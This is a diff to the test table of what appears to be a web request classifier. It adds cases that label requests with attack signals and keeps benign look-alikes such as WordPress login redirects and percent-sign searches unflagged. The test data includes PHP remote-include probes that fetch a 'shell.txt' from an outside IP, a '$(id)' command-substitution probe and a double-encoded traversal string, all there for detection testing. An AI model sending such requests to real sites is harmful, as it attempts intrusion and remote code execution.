@@ -92,6 +92,16 @@ const REQUESTS: [label: string, request: RequestFacts, signals: string[]][] = [
     ['command-injection'],
   ],
   ['command substitution', get('/?cmd=$(id)', 200), ['command-injection']],
+  [
+    'remote file include',
+    get('/index.php?page=http://198.51.100.9/shell.txt?', 404),
+    ['php-remote-include', 'not-found-probe'],
+  ],
+  [
+    'remote include in a .php page parameter',
+    get('/index.php?lang=https://198.51.100.9/x', 200),
+    ['php-remote-include'],
+  ],
   // What people and browsers ask for.
   ['a blog post about wp-login', get('/blog/how-to-secure-wp-login-php', 200), []],
   ['a blog post about /etc/passwd', get('/blog/etc/passwd-explained', 200), []],
@@ -99,6 +109,22 @@ const REQUESTS: [label: string, request: RequestFacts, signals: string[]][] = [
   ['a search with an apostrophe', get('/search?q=O%27Reilly', 200), []],
   // A search for markup is worth a signal; one request is not a verdict (see the tracker cases below).
   ['a search for <script>', get('/search?q=%3Cscript%3E', 200), ['xss']],
+  [
+    'WordPress login sending the user back to the admin page',
+    get(
+      '/wp-login.php?redirect_to=https%3A%2F%2Fexample.com%2Fwp-admin%2Fadmin.php%3Fpage%3Dstats&reauth=1',
+      200,
+    ),
+    [],
+  ],
+  ['a share link on a PHP page', get('/share.php?u=https://example.com/blog/post', 200), []],
+  ['a search for "100%"', get('/search?q=100%25', 200), []],
+  ['a search for "50% off", the % written bare', get('/search?q=50%+off', 200), ['malformed-request']],
+  [
+    'an overlong UTF-8 slash, double-encoded',
+    get('/a%25c0%25afb', 404),
+    ['malformed-request', 'not-found-probe'],
+  ],
   ['the site’s own admin page', get('/admin', 200), []],
   ['the site’s admin redirecting to login', get('/admin/', 302), []],
   ['security.txt missing', get('/.well-known/security.txt', 404), []],
